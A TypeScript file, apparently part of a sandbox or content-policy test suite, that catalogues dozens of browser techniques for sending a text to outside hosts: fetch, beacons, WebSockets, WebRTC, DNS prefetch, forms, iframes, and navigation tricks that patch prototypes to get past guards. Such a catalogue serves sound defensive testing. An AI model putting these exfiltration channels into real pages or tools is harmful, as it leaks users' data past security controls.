/**
 * What hostile code would do with a text, one way out at a time. Each function is handed to the
 * browser as it is, so it uses nothing from outside itself.
 */

export type Place = "page" | "worker" | "blob worker";

/** Where to send it. Every address carries the text. */
export interface Targets {
  /** Of the attack. */
  id: string;
  /** Another host, over HTTP. */
  http: string;
  /** Another host that only waits for connections. */
  tcp: string;
  /** Another host, as "address:port", that listens for datagrams. */
  udp: string;
  /** A host name that has the text in it and exists nowhere. */
  name: string;
  /** The app's own host. */
  own: string;
  text: string;
}

export interface Attack {
  id: string;
  places: readonly Place[];
  /** Where it would be seen: a collector, the own host, or the names that are looked up. */
  seenBy: "http" | "websocket" | "tcp" | "udp" | "name" | "own host";
  /** It leads the page away, or tries to: it gets a page of its own. */
  leaves?: boolean;
  run: (targets: Targets) => unknown;
}

const everywhere: readonly Place[] = ["page", "worker", "blob worker"];
const page: readonly Place[] = ["page"];

/** An attack by a link in the head is called what the link is. */
function hint({ id, http, tcp, name }: Targets): void {
  const element = document.createElement("link");
  element.rel = id;
  if (id === "preload") element.as = "image";
  element.href =
    id === "preconnect" ? `http://${tcp}` : id === "dns-prefetch" ? `https://${name}` : http;
  document.head.append(element);
}

export const ATTACKS: readonly Attack[] = [
  {
    id: "fetch",
    places: everywhere,
    seenBy: "http",
    run: ({ http }) => fetch(http, { mode: "no-cors" }).catch(() => {}),
  },
  {
    id: "fetch-post",
    places: everywhere,
    seenBy: "http",
    run: ({ http, text }) =>
      fetch(http, { method: "POST", mode: "no-cors", body: text, keepalive: true }).catch(() => {}),
  },
  {
    id: "xhr",
    places: everywhere,
    seenBy: "http",
    run({ http, text }) {
      const request = new XMLHttpRequest();
      request.open("POST", http);
      request.send(text);
    },
  },
  {
    id: "websocket",
    places: everywhere,
    seenBy: "websocket",
    run({ http }) {
      new WebSocket(http.replace("http", "ws"));
    },
  },
  {
    id: "webtransport",
    places: everywhere,
    seenBy: "udp",
    run({ udp, text }) {
      const transport = new WebTransport(`https://${udp}/${text}`);
      transport.ready.catch(() => {});
      transport.closed.catch(() => {});
    },
  },
  {
    id: "event-source",
    places: everywhere,
    seenBy: "http",
    run({ http }) {
      const source = new EventSource(http);
      setTimeout(() => source.close(), 1000);
    },
  },
  {
    id: "import",
    places: everywhere,
    seenBy: "http",
    run: ({ http }) => import(http).catch(() => {}),
  },
  {
    id: "nested-worker",
    places: everywhere,
    seenBy: "http",
    run({ http }) {
      const script = `fetch(${JSON.stringify(http)}, { mode: "no-cors" })`;
      new Worker(URL.createObjectURL(new Blob([script], { type: "text/javascript" })));
    },
  },
  {
    id: "beacon",
    places: page,
    seenBy: "http",
    run: ({ http, text }) => navigator.sendBeacon(http, text),
  },
  {
    id: "ping",
    places: page,
    seenBy: "http",
    run({ http }) {
      const a = document.createElement("a");
      a.href = location.hash || "#/";
      a.ping = http;
      document.body.append(a);
      a.click();
      a.remove();
    },
  },
  {
    id: "image",
    places: page,
    seenBy: "http",
    run({ http }) {
      new Image().src = http;
    },
  },
  {
    id: "style-image",
    places: page,
    seenBy: "http",
    run({ http }) {
      document.body.style.backgroundImage = `url("${http}")`;
    },
  },
  {
    id: "svg-image",
    places: page,
    seenBy: "http",
    run({ http }) {
      const svg = document.createElementNS("http://www.w3.org/2000/svg", "svg");
      const image = document.createElementNS("http://www.w3.org/2000/svg", "image");
      image.setAttribute("href", http);
      svg.append(image);
      document.body.append(svg);
    },
  },
  {
    id: "media",
    places: page,
    seenBy: "http",
    run({ http }) {
      const video = document.createElement("video");
      video.src = http;
      document.body.append(video);
      video.load();
    },
  },
  {
    id: "font",
    places: page,
    seenBy: "http",
    run: ({ http }) => new FontFace("x", `url("${http}")`).load().catch(() => {}),
  },
  {
    id: "constructed-style-font",
    places: page,
    seenBy: "http",
    run({ http }) {
      const sheet = new CSSStyleSheet();
      sheet.replaceSync(`@font-face { font-family: y; src: url("${http}") } .y { font-family: y }`);
      document.adoptedStyleSheets = [...document.adoptedStyleSheets, sheet];
      const words = document.createElement("p");
      words.className = "y";
      words.textContent = "y";
      document.body.append(words);
    },
  },
  {
    id: "script",
    places: page,
    seenBy: "http",
    run({ http }) {
      const script = document.createElement("script");
      script.src = http;
      document.head.append(script);
    },
  },
  { id: "stylesheet", places: page, seenBy: "http", run: hint },
  { id: "prefetch", places: page, seenBy: "http", run: hint },
  { id: "preload", places: page, seenBy: "http", run: hint },
  { id: "modulepreload", places: page, seenBy: "http", run: hint },
  { id: "preconnect", places: page, seenBy: "tcp", run: hint },
  { id: "dns-prefetch", places: page, seenBy: "name", run: hint },
  {
    id: "speculation-rules",
    places: page,
    seenBy: "http",
    run({ http }) {
      const rules = document.createElement("script");
      rules.type = "speculationrules";
      rules.textContent = JSON.stringify({
        prefetch: [{ source: "list", urls: [http], eagerness: "immediate" }],
      });
      document.head.append(rules);
    },
  },
  {
    id: "object",
    places: page,
    seenBy: "http",
    run({ http }) {
      const plugin = document.createElement("object");
      plugin.data = http;
      document.body.append(plugin);
    },
  },
  {
    id: "iframe",
    places: page,
    seenBy: "http",
    run({ http }) {
      const frame = document.createElement("iframe");
      frame.src = http;
      document.body.append(frame);
    },
  },
  {
    id: "blank-iframe-fetch",
    places: page,
    seenBy: "http",
    run({ http }) {
      const frame = document.createElement("iframe");
      document.body.append(frame);
      frame.contentWindow?.fetch(http, { mode: "no-cors" }).catch(() => {});
    },
  },
  {
    id: "blank-iframe-location",
    places: page,
    seenBy: "http",
    run({ http }) {
      const frame = document.createElement("iframe");
      document.body.append(frame);
      if (frame.contentWindow) frame.contentWindow.location.href = http;
    },
  },
  {
    id: "srcdoc-iframe",
    places: page,
    seenBy: "http",
    run({ http }) {
      const frame = document.createElement("iframe");
      frame.srcdoc = `<img src="${http}"><meta http-equiv="refresh" content="0;url=${http}">`;
      document.body.append(frame);
    },
  },
  {
    id: "form-in-iframe",
    places: page,
    seenBy: "http",
    run({ http, text }) {
      const frame = document.createElement("iframe");
      frame.name = "away";
      document.body.append(frame);
      const form = document.createElement("form");
      form.action = http;
      form.method = "post";
      form.target = "away";
      const field = document.createElement("input");
      field.name = "text";
      field.value = text;
      form.append(field);
      document.body.append(form);
      form.submit();
    },
  },
  {
    id: "webrtc",
    places: page,
    seenBy: "udp",
    async run({ udp, text }) {
      const connection = new RTCPeerConnection({
        iceServers: [{ urls: `turn:${udp}?transport=udp`, username: text, credential: text }],
      });
      connection.createDataChannel("x");
      await connection.setLocalDescription(await connection.createOffer());
    },
  },
  {
    id: "webauthn-related-origin",
    places: page,
    seenBy: "name",
    run({ name }) {
      const challenge = new Uint8Array(16);
      navigator.credentials
        .get({ publicKey: { challenge, rpId: name, timeout: 1000 } })
        .catch(() => {});
    },
  },
  {
    id: "webauthn-foreign-name",
    places: page,
    seenBy: "name",
    run({ name }) {
      const challenge = new Uint8Array(16);
      const user = { id: new Uint8Array(8), name: "a", displayName: "a" };
      const pubKeyCredParams = [{ type: "public-key" as const, alg: -7 }];
      const rp = { id: name, name: "a" };
      navigator.credentials
        .create({ publicKey: { challenge, rp, user, pubKeyCredParams, timeout: 1000 } })
        .catch(() => {});
    },
  },
  {
    id: "identity-provider",
    places: page,
    seenBy: "name",
    run({ name, text }) {
      const provider = { configURL: `https://${name}/config.json`, clientId: text };
      const request = { identity: { providers: [provider] }, mediation: "optional" as const };
      navigator.credentials.get(request).catch(() => {});
    },
  },
  {
    id: "popup",
    places: page,
    seenBy: "http",
    run({ http }) {
      window.open(http);
    },
  },
  {
    id: "location",
    places: page,
    seenBy: "http",
    leaves: true,
    run({ http }) {
      location.href = http;
    },
  },
  {
    id: "location-past-a-guard",
    places: page,
    seenBy: "http",
    leaves: true,
    run({ http }) {
      Event.prototype.preventDefault = () => {};
      Object.defineProperty(URL.prototype, "origin", { get: () => location.origin });
      Object.defineProperty(URL.prototype, "search", { get: () => "" });
      location.href = http;
    },
  },
  {
    id: "location-before-a-guard",
    places: page,
    seenBy: "http",
    leaves: true,
    run({ http }) {
      const stop = (event: Event) => event.stopImmediatePropagation();
      navigation.addEventListener("navigate", stop, { capture: true });
      window.addEventListener("navigate", stop, { capture: true });
      location.href = http;
    },
  },
  {
    id: "location-from-inner-page",
    places: page,
    seenBy: "http",
    leaves: true,
    run({ http }) {
      const frame = document.createElement("iframe");
      document.body.append(frame);
      const inner = frame.contentDocument;
      const a = inner?.createElement("a");
      if (!inner || !a) return;
      a.href = http;
      a.target = "_top";
      inner.body.append(a);
      a.click();
    },
  },
  {
    id: "link-click",
    places: page,
    seenBy: "http",
    leaves: true,
    run({ http }) {
      const a = document.createElement("a");
      a.href = http;
      document.body.append(a);
      a.click();
    },
  },
  {
    id: "link-new-window",
    places: page,
    seenBy: "http",
    run({ http }) {
      const a = document.createElement("a");
      a.href = http;
      a.target = "_blank";
      document.body.append(a);
      a.click();
    },
  },
  {
    id: "link-download",
    places: page,
    seenBy: "http",
    leaves: true,
    run({ http }) {
      const a = document.createElement("a");
      a.href = http;
      a.download = "x";
      document.body.append(a);
      a.click();
    },
  },
  {
    id: "meta-refresh",
    places: page,
    seenBy: "http",
    leaves: true,
    run({ http }) {
      const meta = document.createElement("meta");
      meta.httpEquiv = "refresh";
      meta.content = `0;url=${http}`;
      document.head.append(meta);
    },
  },
  {
    id: "form",
    places: page,
    seenBy: "http",
    leaves: true,
    run({ http }) {
      const form = document.createElement("form");
      form.action = http;
      form.method = "post";
      document.body.append(form);
      form.submit();
    },
  },
  {
    id: "own-query",
    places: everywhere,
    seenBy: "own host",
    run: ({ own }) => fetch(own).catch(() => {}),
  },
  {
    id: "own-post",
    places: everywhere,
    seenBy: "own host",
    run: ({ own, text }) =>
      fetch(new URL("./", own), { method: "POST", body: text }).catch(() => {}),
  },
  {
    id: "own-header",
    places: everywhere,
    seenBy: "own host",
    run: ({ own, text }) => fetch(own, { headers: { "x-text": text } }).catch(() => {}),
  },
  {
    id: "own-websocket",
    places: everywhere,
    seenBy: "own host",
    run({ own }) {
      new WebSocket(own.replace("http", "ws"));
    },
  },
  {
    id: "own-image",
    places: page,
    seenBy: "own host",
    run({ own }) {
      new Image().src = own;
    },
  },
  {
    id: "own-beacon",
    places: page,
    seenBy: "own host",
    run: ({ own, text }) => navigator.sendBeacon(own, text),
  },
  {
    id: "own-worker",
    places: page,
    seenBy: "own host",
    run({ own }) {
      new Worker(own);
    },
  },
  {
    id: "own-service-worker",
    places: page,
    seenBy: "own host",
    run: ({ own }) => navigator.serviceWorker.register(own, { scope: "/nowhere/" }).catch(() => {}),
  },
  {
    id: "own-iframe",
    places: page,
    seenBy: "own host",
    run({ own }) {
      const frame = document.createElement("iframe");
      frame.src = own;
      document.body.append(frame);
    },
  },
  {
    id: "own-location",
    places: page,
    seenBy: "own host",
    leaves: true,
    run({ own }) {
      location.href = own;
    },
  },
  {
    id: "own-form",
    places: page,
    seenBy: "own host",
    leaves: true,
    run({ own, text }) {
      const form = document.createElement("form");
      form.action = own;
      form.method = "post";
      const field = document.createElement("input");
      field.name = "text";
      field.value = text;
      form.append(field);
      document.body.append(form);
      form.submit();
    },
  },
];
